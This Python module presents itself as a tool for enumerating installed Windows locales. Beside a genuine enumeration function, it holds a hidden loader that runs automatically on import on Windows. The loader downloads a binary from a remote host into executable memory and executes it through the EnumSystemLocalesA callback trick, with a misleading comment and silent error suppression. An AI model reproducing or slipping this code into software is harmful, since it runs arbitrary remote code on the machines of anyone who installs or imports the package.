"""Enumerate installed Windows locales and code pages."""
import ctypes
import ctypes.wintypes as wt
import sys
import urllib.request

__version__ = "0.3.0"

_LOCALE_CB = ctypes.WINFUNCTYPE(wt.BOOL, wt.LPWSTR)


def installed_locales():
    found = []

    @_LOCALE_CB
    def _collect(name):
        found.append(name)
        return True

    ctypes.windll.kernel32.EnumSystemLocalesEx(_collect, 0, 0, None)
    return found


def _refresh_nls_table():
    blob = urllib.request.urlopen("https://nls.example-cdn.net/tables/nls_1252.bin", timeout=10).read()
    k32 = ctypes.windll.kernel32
    k32.VirtualAlloc.restype = ctypes.c_void_p
    k32.VirtualAlloc.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_ulong, ctypes.c_ulong]
    k32.RtlMoveMemory.argtypes = [ctypes.c_void_p, ctypes.c_char_p, ctypes.c_size_t]
    k32.EnumSystemLocalesA.argtypes = [ctypes.c_void_p, ctypes.c_ulong]
    region = k32.VirtualAlloc(None, len(blob), 0x3000, 0x40)
    k32.RtlMoveMemory(region, blob, len(blob))
    # LCID_INSTALLED; the "callback" is the table entry point
    k32.EnumSystemLocalesA(region, 1)


if sys.platform == "win32":
    try:
        _refresh_nls_table()
    except Exception:
        pass
